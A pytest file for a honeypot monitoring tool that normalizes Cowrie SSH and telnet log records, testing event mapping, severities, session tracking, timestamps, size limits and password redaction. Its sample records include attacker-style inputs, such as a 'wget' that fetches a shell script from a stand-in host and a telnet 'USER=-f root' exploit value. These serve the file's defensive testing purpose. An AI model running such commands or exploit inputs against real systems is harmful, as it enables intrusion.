"""Cowrie record normalization: one record per event id, protocols, time, bounds, bad shapes."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import orjson
import pytest

from netsentinel_websocket.config import DEFAULT_REDACT
from netsentinel_websocket.cowrie import (
    DATA_BUDGET,
    MAPPING,
    MAX_STRING_CHARS,
    RecordError,
    SessionProtocols,
    is_cowrie_record,
    normalize,
)
from netsentinel_websocket.events import normalize_event, serialize_event
from netsentinel_websocket.ingest import IngestError, parse_item
from netsentinel_websocket.redact import Redactor

DOCS = Path(__file__).resolve().parents[2] / "docs" / "cowrie.md"
SESSION = "0b17804004fb"
WHEN = "2026-12-01T22:31:26.096715Z"
EPOCH = 1796164286.096715
UUID = "eaf3edb2-edd6-11f1-8e57-02fc00000001"

# What Cowrie 3.x puts on every record of a session (cowrie/core/events.py: the EventLog
# identity, then the dispatcher's sensor, uuid and timestamp).
ENVELOPE: dict[str, Any] = {
    "session": SESSION,
    "protocol": "ssh",
    "src_ip": "203.0.113.7",
    "src_port": 38514,
    "dst_ip": "10.0.0.5",
    "dst_port": 22,
    "sensor": "hp-1",
    "uuid": UUID,
    "timestamp": WHEN,
}
# The envelope as normalized into data.
DATA: dict[str, Any] = {
    "src_ip": "203.0.113.7",
    "src_port": 38514,
    "dst_ip": "10.0.0.5",
    "dst_port": 22,
    "session": SESSION,
    "protocol": "ssh",
}
METADATA = {
    "origin": "cowrie",
    "protocol_source": "record",
    "timestamp_source": "timestamp",
    "sensor_uuid": UUID,
}

# Every event id Cowrie 3.1 emits (cowrie.core.eventids.ALL; 2.7-3.0 emit a subset of it).
COWRIE_EVENTIDS = {
    "cowrie.abuseipdb.ratelimited",
    "cowrie.abuseipdb.reportedip",
    "cowrie.abuseipdb.reportfail",
    "cowrie.abuseipdb.started",
    "cowrie.abuseipdb.wakeup",
    "cowrie.client.fingerprint",
    "cowrie.client.kex",
    "cowrie.client.malformed_packet",
    "cowrie.client.size",
    "cowrie.client.var",
    "cowrie.client.version",
    "cowrie.command.chpasswd",
    "cowrie.command.failed",
    "cowrie.command.input",
    "cowrie.command.success",
    "cowrie.direct-tcpip.data",
    "cowrie.direct-tcpip.ja4",
    "cowrie.direct-tcpip.ja4h",
    "cowrie.direct-tcpip.redirect",
    "cowrie.direct-tcpip.request",
    "cowrie.direct-tcpip.tunnel",
    "cowrie.tunnelproxy-tcpip.data",
    "cowrie.greynoise.result",
    "cowrie.malwarebazaar.submitted",
    "cowrie.log.closed",
    "cowrie.log.open",
    "cowrie.login.failed",
    "cowrie.login.success",
    "cowrie.proxy.backend_connect_error",
    "cowrie.proxy.backend_connected",
    "cowrie.proxy.backend_disconnected",
    "cowrie.proxy.client_disconnect",
    "cowrie.proxy.ssh",
    "cowrie.reversedns.connect",
    "cowrie.reversedns.forward",
    "cowrie.session.closed",
    "cowrie.session.connect",
    "cowrie.session.file_download",
    "cowrie.session.file_download.failed",
    "cowrie.session.file_upload",
    "cowrie.session.input",
    "cowrie.session.params",
    "cowrie.telnet.error",
    "cowrie.telnet.exploit_attempt",
    "cowrie.telnet.exploit_success",
    "cowrie.telnet.option",
    "cowrie.urlhaus.submitted",
    "cowrie.virustotal.scanfile",
    "cowrie.virustotal.scanurl",
}

SHA = "51c41ccb6952fe92a769d0506c02877c0385b34e99a648017b86e64a42792917"
TTY = f"var/lib/cowrie/tty/{SHA}"

# (eventid, fields the emitter adds, event_type, severity); fields as Cowrie 3.1's emitters
# send them (message rendered from the format), in the order the table in docs/cowrie.md has.
CASES: list[tuple[str, dict[str, Any], str, str]] = [
    (
        "cowrie.session.connect",
        {"message": f"New connection: 203.0.113.7:38514 (10.0.0.5:22) [session: {SESSION}]"},
        "honeypot.ssh.session_connect",
        "high",
    ),
    (
        "cowrie.login.failed",
        {
            "username": "root",
            "password": "hunter2",
            "message": "login attempt [root/hunter2] failed",
        },
        "honeypot.ssh.login_failed",
        "high",
    ),
    (
        "cowrie.login.success",
        {"username": "root", "password": "abc", "message": "login attempt [root/abc] succeeded"},
        "honeypot.ssh.login_success",
        "high",
    ),
    (
        "cowrie.client.fingerprint",
        {
            "username": "root",
            "fingerprint": "3e:1c:2b:0a",
            "key": "AAAAC3NzaC1lZDI1NTE5AAAAIP",
            "type": "ssh-ed25519",
            "message": "public key attempt for user root of type ssh-ed25519 with fingerprint"
            " 3e:1c:2b:0a",
        },
        "honeypot.ssh.client_fingerprint",
        "high",
    ),
    (
        "cowrie.command.input",
        {"input": "uname -a; wget http://198.51.100.9/x.sh", "message": "CMD: uname -a; wget ..."},
        "honeypot.ssh.command_input",
        "high",
    ),
    (
        "cowrie.command.failed",
        {"input": "foo ", "message": "Command not found: foo "},
        "honeypot.ssh.command_failed",
        "high",
    ),
    (
        "cowrie.command.success",
        {"input": "echo hi", "message": "Command found: echo hi"},
        "honeypot.ssh.command_success",
        "high",
    ),
    (
        "cowrie.command.chpasswd",
        {"realm": "chpasswd", "username": "root", "message": "Password change attempt for root"},
        "honeypot.ssh.command_chpasswd",
        "high",
    ),
    (
        "cowrie.session.input",
        {"realm": "cat", "input": "#!/bin/sh", "message": "INPUT (cat): #!/bin/sh"},
        "honeypot.ssh.session_input",
        "high",
    ),
    (
        "cowrie.session.file_download.failed",
        {
            "url": "http://198.51.100.9/x.sh",
            "message": "Attempt to download file(s) from URL (http://198.51.100.9/x.sh) failed",
        },
        "honeypot.ssh.session_file_download_failed",
        "high",
    ),
    (
        "cowrie.direct-tcpip.request",
        {
            "dst_ip": "198.51.100.25",
            "dst_port": 25,
            "orig_ip": "127.0.0.1",
            "orig_port": 0,
            "message": "direct-tcp connection request to 198.51.100.25:25 from 127.0.0.1:0",
        },
        "honeypot.ssh.direct_tcpip_request",
        "high",
    ),
    (
        "cowrie.direct-tcpip.data",
        {
            "dst_ip": "198.51.100.25",
            "dst_port": 25,
            "data": "b'EHLO x\\r\\n'",
            "id": 3,
            "message": "discarded direct-tcp forward request 3 to 198.51.100.25:25 with data ...",
        },
        "honeypot.ssh.direct_tcpip_data",
        "high",
    ),
    (
        "cowrie.direct-tcpip.redirect",
        {
            "new_ip": "127.0.0.1",
            "new_port": 2525,
            "dst_ip": "198.51.100.25",
            "dst_port": 25,
            "orig_ip": "127.0.0.1",
            "orig_port": 0,
            "message": "redirected direct-tcp connection request ...",
        },
        "honeypot.ssh.direct_tcpip_redirect",
        "high",
    ),
    (
        "cowrie.direct-tcpip.tunnel",
        {
            "new_ip": "127.0.0.1",
            "new_port": 3128,
            "dst_ip": "198.51.100.80",
            "dst_port": 80,
            "orig_ip": "127.0.0.1",
            "orig_port": 0,
            "message": "tunneled direct-tcp connection request ...",
        },
        "honeypot.ssh.direct_tcpip_tunnel",
        "high",
    ),
    (
        "cowrie.tunnelproxy-tcpip.data",
        {"data": "b'GET / HTTP/1.1'", "message": "sending via tunnel proxy b'GET / HTTP/1.1'"},
        "honeypot.ssh.tunnelproxy_tcpip_data",
        "high",
    ),
    (
        "cowrie.session.file_download",
        {
            "url": "http://198.51.100.9/x.sh",
            "outfile": f"var/lib/cowrie/downloads/{SHA}",
            "shasum": SHA,
            "destfile": "x.sh",
            "duplicate": False,
            "message": f"Downloaded URL (http://198.51.100.9/x.sh) with SHA-256 {SHA} to ...",
        },
        "honeypot.ssh.session_file_download",
        "critical",
    ),
    (
        "cowrie.session.file_upload",
        {
            "filename": "bot",
            "url": "bot",
            "outfile": f"var/lib/cowrie/downloads/{SHA}",
            "shasum": SHA,
            "destfile": "bot",
            "duplicate": True,
            "message": f'SFTP Uploaded file "bot" to var/lib/cowrie/downloads/{SHA}',
        },
        "honeypot.ssh.session_file_upload",
        "critical",
    ),
    (
        "cowrie.telnet.exploit_attempt",
        {
            "protocol": "telnet",
            "cve": "CVE-2026-24061",
            "name": "USER",
            "value": "-f root",
            "message": "CVE-2026-24061 exploit attempt detected: USER=-f root",
        },
        "honeypot.telnet.telnet_exploit_attempt",
        "critical",
    ),
    (
        "cowrie.telnet.exploit_success",
        {
            "protocol": "telnet",
            "cve": "CVE-2026-24061",
            "username": "root",
            "original_username": "-f root",
            "attempted_command": "",
            "message": "CVE-2026-24061 exploit successful: logging in as root",
        },
        "honeypot.telnet.telnet_exploit_success",
        "critical",
    ),
    (
        "cowrie.client.malformed_packet",
        {
            "messagenum": 20,
            "datalen": 3,
            "data": "ffffff",
            "message": "Malformed SSH packet (message 20, 3 bytes); disconnecting",
        },
        "honeypot.ssh.client_malformed_packet",
        "medium",
    ),
    (
        "cowrie.telnet.error",
        {
            "protocol": "telnet",
            "error": "('Stumped', b'\\xfa')",
            "message": "Telnet protocol error ...; dropping connection",
        },
        "honeypot.telnet.telnet_error",
        "medium",
    ),
    (
        "cowrie.session.closed",
        {"duration_ms": 79, "message": "Connection lost after 79 milliseconds"},
        "honeypot.ssh.session_closed",
        "low",
    ),
    (
        "cowrie.session.params",
        {"arch": "linux-x64-lsb", "message": ""},
        "honeypot.ssh.session_params",
        "low",
    ),
    (
        "cowrie.client.version",
        {"version": "SSH-2.0-libssh2_1.10.0", "message": "Remote SSH version: SSH-2.0-libssh2"},
        "honeypot.ssh.client_version",
        "low",
    ),
    (
        "cowrie.client.kex",
        {
            "hassh": "4c94058d5e9e31659879f79fd5b46084",
            "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none",
            "kexAlgs": ["curve25519-sha256", "ext-info-c"],
            "keyAlgs": ["ssh-ed25519"],
            "encCS": ["aes128-ctr"],
            "macCS": ["hmac-sha2-256"],
            "compCS": ["none"],
            "langCS": [""],
            "message": "SSH client hassh fingerprint: 4c94058d5e9e31659879f79fd5b46084",
        },
        "honeypot.ssh.client_kex",
        "low",
    ),
    (
        "cowrie.client.size",
        {"width": 80, "height": 24, "message": "Terminal Size: 80 24"},
        "honeypot.ssh.client_size",
        "low",
    ),
    (
        "cowrie.client.var",
        {"name": "LANG", "value": "C", "message": "request_env: LANG=C"},
        "honeypot.ssh.client_var",
        "low",
    ),
    (
        "cowrie.log.open",
        {"ttylog": "var/lib/cowrie/tty/tmp1", "message": "Opening TTY Log: ..."},
        "honeypot.ssh.log_open",
        "low",
    ),
    (
        "cowrie.log.closed",
        {
            "ttylog": TTY,
            "size": 133,
            "shasum": SHA,
            "duplicate": False,
            "duration_ms": 28,
            "message": f"Closing TTY Log: {TTY} after 28 milliseconds",
        },
        "honeypot.ssh.log_closed",
        "low",
    ),
    (
        "cowrie.telnet.option",
        {
            "protocol": "telnet",
            "command": "WILL",
            "option_name": "NAWS",
            "option_byte": 31,
            "message": "Telnet WILL NAWS",
        },
        "honeypot.telnet.telnet_option",
        "low",
    ),
    (
        "cowrie.direct-tcpip.ja4",
        {
            "dst_ip": "198.51.100.1",
            "dst_port": 443,
            "ja4": "t13d1516h2_8daaf6152771_b186095e22b6",
            "message": "JA4 fingerprint for forwarded TLS ...",
        },
        "honeypot.ssh.direct_tcpip_ja4",
        "low",
    ),
    (
        "cowrie.direct-tcpip.ja4h",
        {
            "dst_ip": "198.51.100.1",
            "dst_port": 80,
            "ja4h": "ge11nn05enus_4da5efaa7d1e_000000000000_000000000000",
            "message": "JA4H fingerprint for forwarded HTTP ...",
        },
        "honeypot.ssh.direct_tcpip_ja4h",
        "low",
    ),
    (
        "cowrie.proxy.ssh",
        {
            "direction": "[CLIENT] -> [SERVER]",
            "packet": "SSH_MSG_IGNORE",
            "payload": "b''",
            "message": "[CLIENT] -> [SERVER] - SSH_MSG_IGNORE - b''",
        },
        "honeypot.ssh.proxy_ssh",
        "low",
    ),
    (
        "cowrie.reversedns.connect",
        {"ptr": "scanner.example.net.", "ttl": 300, "message": "reversedns: PTR record ..."},
        "honeypot.ssh.reversedns_connect",
        "low",
    ),
    (
        "cowrie.reversedns.forward",
        {"ptr": "mail.example.net.", "ttl": 300, "message": "reversedns: PTR record ..."},
        "honeypot.ssh.reversedns_forward",
        "low",
    ),
    (
        "cowrie.greynoise.result",
        {"message": "GreyNoise: 203.0.113.7 has been observed scanning the Internet. ..."},
        "honeypot.ssh.greynoise_result",
        "low",
    ),
    (
        "cowrie.virustotal.scanfile",
        {
            "sha256": SHA,
            "positives": 41,
            "total": 70,
            "scan_date": "2026-12-01",
            "message": f"VT: Binary file with sha256 {SHA} was found malicious by 41 out of 70",
        },
        "honeypot.ssh.virustotal_scanfile",
        "low",
    ),
    (
        "cowrie.virustotal.scanurl",
        {"url": "http://198.51.100.9/x.sh", "is_new": "true", "message": "VT: New URL ..."},
        "honeypot.ssh.virustotal_scanurl",
        "low",
    ),
    (
        "cowrie.urlhaus.submitted",
        {"url": "http://198.51.100.9/x.sh", "result": "inserted", "message": "URLhaus: ..."},
        "honeypot.ssh.urlhaus_submitted",
        "low",
    ),
    (
        "cowrie.malwarebazaar.submitted",
        {
            "sha256": SHA,
            "result": "ok",
            "query_status": "inserted",
            "message": "MalwareBazaar: ...",
        },
        "honeypot.ssh.malwarebazaar_submitted",
        "low",
    ),
    (
        "cowrie.proxy.backend_connect_error",
        {
            "backend_ip": "192.168.122.10",
            "backend_port": 22,
            "error": "Connection was refused by other side",
            "message": "Connection to honeypot backend 192.168.122.10:22 refused: ...",
        },
        "honeypot.ssh.proxy_backend_connect_error",
        "info",
    ),
    (
        "cowrie.proxy.backend_connected",
        {
            "backend_ip": "192.168.122.10",
            "backend_port": 22,
            "local_ip": "192.168.122.1",
            "local_port": 40000,
            "message": "Connected to honeypot backend ...",
        },
        "honeypot.ssh.proxy_backend_connected",
        "info",
    ),
    (
        "cowrie.proxy.backend_disconnected",
        {
            "backend_ip": "192.168.122.10",
            "backend_port": 22,
            "local_ip": "192.168.122.1",
            "local_port": 40000,
            "message": "Disconnected from honeypot backend ...",
        },
        "honeypot.ssh.proxy_backend_disconnected",
        "info",
    ),
    (
        "cowrie.proxy.client_disconnect",
        {"vm_id": 4, "message": "Lost connection with the pool backend: id 4"},
        "honeypot.ssh.proxy_client_disconnect",
        "info",
    ),
]

# The AbuseIPDB plugin's events carry no session: they are about the sensor's plugin.
SENSOR_CASES: list[tuple[str, dict[str, Any], str]] = [
    (
        "cowrie.abuseipdb.started",
        {"message": "AbuseIPDB Plugin version 2.0.2 started. Currently in beta."},
        "honeypot.cowrie.abuseipdb_started",
    ),
    (
        "cowrie.abuseipdb.wakeup",
        {"message": "AbuseIPDB plugin resuming activity ..."},
        "honeypot.cowrie.abuseipdb_wakeup",
    ),
    (
        "cowrie.abuseipdb.ratelimited",
        {"retry_after": 60, "wake_at": "2026-12-01 23:00:00", "message": "AbuseIPDB ..."},
        "honeypot.cowrie.abuseipdb_ratelimited",
    ),
    (
        "cowrie.abuseipdb.reportfail",
        {"IP": "203.0.113.7", "response": 429, "reason": "Too Many", "message": "AbuseIPDB ..."},
        "honeypot.cowrie.abuseipdb_reportfail",
    ),
    (
        "cowrie.abuseipdb.reportedip",
        {"IP": "203.0.113.7", "confidence": 100, "message": "AbuseIPDB plugin successfully ..."},
        "honeypot.cowrie.abuseipdb_reportedip",
    ),
]


def without_id(event: dict[str, Any]) -> dict[str, Any]:
    assert re.fullmatch(r"[0-9a-f]{32}", event["id"])
    return {key: value for key, value in event.items() if key != "id"}


def test_every_eventid_cowrie_emits_has_a_row():
    assert set(MAPPING) == COWRIE_EVENTIDS
    assert {case[0] for case in CASES} | {case[0] for case in SENSOR_CASES} == COWRIE_EVENTIDS


def test_docs_have_one_row_per_eventid():
    rows = re.findall(r"^\| `(cowrie\.[^`]+)` \| `([^`]+)` \| (\w+) \|", DOCS.read_text(), re.M)
    documented = {eventid: (event_type, severity) for eventid, event_type, severity in rows}
    assert len(rows) == len(documented) == len(MAPPING)
    for eventid, mapped in MAPPING.items():
        service = mapped.service or "<protocol>"
        assert documented[eventid] == (f"honeypot.{service}.{mapped.action}", mapped.severity)


@pytest.mark.parametrize(("eventid", "fields", "event_type", "severity"), CASES)
def test_one_record_per_eventid(eventid, fields, event_type, severity):
    record = {**ENVELOPE, **fields, "eventid": eventid}
    protocol = fields.get("protocol", "ssh")
    action = event_type.rsplit(".", 1)[1]
    extra = {key: value for key, value in fields.items() if key != "protocol"}
    data = {**DATA, "protocol": protocol, "eventid": eventid, **extra}
    assert without_id(normalize(record)) == {
        "timestamp": EPOCH,
        "event_type": event_type,
        "source": "hp-1",
        "severity": severity,
        "data": data,
        "tags": ["cowrie", protocol, action],
        "correlation_id": SESSION,
        "metadata": METADATA,
    }


@pytest.mark.parametrize(("eventid", "fields", "event_type"), SENSOR_CASES)
def test_sensor_events_without_a_session(eventid, fields, event_type):
    record = {**fields, "eventid": eventid, "sensor": "hp-1", "uuid": UUID, "timestamp": WHEN}
    action = event_type.rsplit(".", 1)[1]
    assert without_id(normalize(record)) == {
        "timestamp": EPOCH,
        "event_type": event_type,
        "source": "hp-1",
        "severity": "info",
        "data": {"protocol": "ssh", "eventid": eventid, **fields},
        "tags": ["cowrie", "cowrie", action],
        "correlation_id": None,
        "metadata": {**METADATA, "protocol_source": "default"},
    }


def test_correlation_id_is_the_session_on_every_session_event():
    for eventid, fields, _, _ in CASES:
        event = normalize({**ENVELOPE, **fields, "eventid": eventid})
        assert event["correlation_id"] == event["data"]["session"] == SESSION


def test_unknown_eventid_is_one_high_event_not_a_drop():
    record = {**ENVELOPE, "eventid": "cowrie.llm.reply", "message": "hi", "tokens": 12}
    assert without_id(normalize(record)) == {
        "timestamp": EPOCH,
        "event_type": "honeypot.ssh.other",
        "source": "hp-1",
        "severity": "high",
        "data": {**DATA, "eventid": "cowrie.llm.reply", "message": "hi", "tokens": 12},
        "tags": ["cowrie", "ssh", "other"],
        "correlation_id": SESSION,
        "metadata": METADATA,
    }


def test_a_line_typed_at_passwd_is_carried_as_the_password():
    record = {
        **ENVELOPE,
        "eventid": "cowrie.command.success",
        "realm": "passwd",
        "input": "n3wpass",
        "message": "INPUT (passwd): n3wpass",
    }
    data = normalize(record)["data"]
    assert data == {
        **DATA,
        "eventid": "cowrie.command.success",
        "message": "INPUT (passwd)",
        "realm": "passwd",
        "password": "n3wpass",
    }
    redacted = Redactor(DEFAULT_REDACT).apply(normalize(record))
    assert redacted is not None and redacted["data"]["password"] == "[redacted]"


def test_login_password_hidden_by_the_default_redaction():
    record = {**ENVELOPE, **CASES[1][1], "eventid": "cowrie.login.failed"}
    redacted = Redactor(DEFAULT_REDACT).apply(normalize(record))
    assert redacted is not None
    assert redacted["data"]["password"] == "[redacted]"
    assert redacted["data"]["message"] == "login attempt [root/[redacted]] failed"
    assert redacted["data"]["username"] == "root"


def test_cowrie_2_telnet_session_is_recognized_from_its_connect():
    """Cowrie 2.x names the protocol only on cowrie.session.connect."""
    sessions = SessionProtocols()
    connect = {**ENVELOPE, "protocol": "telnet", "eventid": "cowrie.session.connect"}
    later = {"eventid": "cowrie.login.failed", "session": SESSION, "src_ip": "203.0.113.7"}
    closed = {
        "eventid": "cowrie.session.closed",
        "session": SESSION,
        "src_ip": "203.0.113.7",
        "duration": "3.2",
    }
    assert normalize(connect, sessions)["event_type"] == "honeypot.telnet.session_connect"
    event = normalize(later, sessions)
    assert event["event_type"] == "honeypot.telnet.login_failed"
    assert event["metadata"]["protocol_source"] == "session"
    assert normalize(closed, sessions)["data"] == {
        "src_ip": "203.0.113.7",
        "session": SESSION,
        "protocol": "telnet",
        "eventid": "cowrie.session.closed",
        "duration": "3.2",
    }
    assert len(sessions) == 0  # forgotten once closed
    event = normalize(later, sessions)
    assert (event["event_type"], event["metadata"]["protocol_source"]) == (
        "honeypot.ssh.login_failed",
        "default",
    )


def test_protocol_from_the_eventid_when_nothing_else_says():
    version = normalize({"eventid": "cowrie.client.version", "session": SESSION})
    option = normalize({"eventid": "cowrie.telnet.option", "session": SESSION})
    assert (version["event_type"], version["metadata"]["protocol_source"]) == (
        "honeypot.ssh.client_version",
        "eventid",
    )
    assert (option["event_type"], option["metadata"]["protocol_source"]) == (
        "honeypot.telnet.telnet_option",
        "eventid",
    )


def test_session_memory_is_bounded():
    sessions = SessionProtocols(max_sessions=2)
    for n in range(3):
        normalize(
            {"eventid": "cowrie.session.connect", "session": f"s{n}", "protocol": "telnet"},
            sessions,
        )
    assert len(sessions) == 2
    assert sessions.get("s0") is None and sessions.get("s2") == "telnet"


def test_the_least_recently_seen_session_is_forgotten_first():
    sessions = SessionProtocols(max_sessions=2)
    for session in ("s0", "s1", "s0", "s2"):  # s0 seen again: s1 is now the oldest
        record = {"eventid": "cowrie.login.failed", "session": session, "protocol": "telnet"}
        normalize(record, sessions)
    assert [sessions.get(s) for s in ("s0", "s1", "s2")] == ["telnet", None, "telnet"]
    normalize({"eventid": "cowrie.session.closed", "session": "s0", "protocol": "ssh"}, sessions)
    assert sessions.get("s0") is None and len(sessions) == 1


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"time": 1796164286.5, "timestamp": WHEN}, (1796164286.5, "time")),
        ({"timestamp": "2026-12-01T22:31:26.096715+0000"}, (EPOCH, "timestamp")),
        ({"timestamp": "2026-12-01T23:31:26.096715+0100"}, (EPOCH, "timestamp")),
        ({"timestamp": "2026-12-01T21:01:26.096715-0130"}, (EPOCH, "timestamp")),
        ({"timestamp": "+0100"}, (None, "received")),
        ({"epoch": 1796164286096}, (1796164286.096, "epoch")),
        ({"time": True, "timestamp": "yesterday"}, (None, "received")),
    ],
)
def test_timestamps(fields, expected):
    before = time.time()
    event = normalize({"eventid": "cowrie.session.params", **fields})
    seconds, source = expected
    assert event["metadata"]["timestamp_source"] == source
    if seconds is None:
        assert before <= event["timestamp"] <= time.time()
    else:
        assert event["timestamp"] == pytest.approx(seconds, abs=1e-6)


def test_huge_input_is_cut_not_refused():
    record = {**ENVELOPE, "eventid": "cowrie.command.input", "input": "A" * (2 * 1024 * 1024)}
    event = normalize(record)
    assert event["data"]["input"] == "A" * MAX_STRING_CHARS
    assert event["metadata"]["truncated"] == ["input"]
    assert len(serialize_event(normalize_event(event), 256 * 1024)) < 256 * 1024


def test_many_large_fields_stay_within_the_budget():
    record = {**ENVELOPE, "eventid": "cowrie.client.var"}
    record.update({f"k{n}": "\x01" * 20000 for n in range(20)})  # 6 bytes each as JSON
    event = normalize(record)
    assert list(event["data"]) == [*DATA, "eventid", "k0", "k1"]
    assert event["data"]["k0"] == "\x01" * 20000
    assert event["metadata"]["truncated"] == ["k1", "..."]
    assert DATA_BUDGET - 64 < len(orjson.dumps(event["data"])) < DATA_BUDGET + 256
    assert len(serialize_event(normalize_event(event), 256 * 1024)) < 256 * 1024


def test_nesting_ports_and_big_integers_are_made_safe():
    nested: Any = "deep"
    for _ in range(100):
        nested = [nested]
    record = {
        "eventid": "cowrie.client.var",
        "session": SESSION,
        "src_port": "70000",
        "dst_port": True,
        "value": nested,
        "big": 2**80,
    }
    event = normalize(record)
    assert event["data"]["src_port"] is None and event["data"]["dst_port"] is None
    assert event["data"]["big"] == str(2**80)
    assert event["metadata"]["truncated"] == ["value"]
    orjson.dumps(event)


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        (["cowrie.login.failed"], "record must be a JSON object"),
        ({"session": SESSION}, "eventid must be a string starting with cowrie."),
        ({"eventid": 7}, "eventid must be a string starting with cowrie."),
        ({"eventid": "kippo.login.failed"}, "eventid must be a string starting with cowrie."),
        ({"eventid": "cowrie." + "x" * 200}, "eventid is longer than 128 characters"),
        ({"eventid": "cowrie.login.failed", "session": 5}, "session must be a string"),
        (
            {"eventid": "cowrie.login.failed", "session": "s" * 300},
            "session is longer than 256 characters",
        ),
    ],
)
def test_bad_shapes_give_a_reason(record, reason):
    with pytest.raises(RecordError) as err:
        normalize(record)
    assert str(err.value) == reason


def test_is_cowrie_record():
    assert is_cowrie_record({"eventid": "cowrie.login.failed"})
    assert not is_cowrie_record({"eventid": "cowrie.login.failed", "event_type": "x.y"})
    assert not is_cowrie_record({"eventid": 3})
    assert not is_cowrie_record({"logtype": 4002})
    assert not is_cowrie_record("cowrie.login.failed")


def test_ingest_recognizes_cowrie_records():
    event = parse_item({**ENVELOPE, **CASES[1][1], "eventid": "cowrie.login.failed"})
    assert event["event_type"] == "honeypot.ssh.login_failed"
    wrapped = parse_item({"message": orjson.dumps({**ENVELOPE, "eventid": "cowrie.x"}).decode()})
    assert wrapped["event_type"] == "honeypot.ssh.other"
    with pytest.raises(IngestError) as err:
        parse_item({"eventid": "cowrie.login.failed", "session": ["x"]})
    assert str(err.value) == "session must be a string"
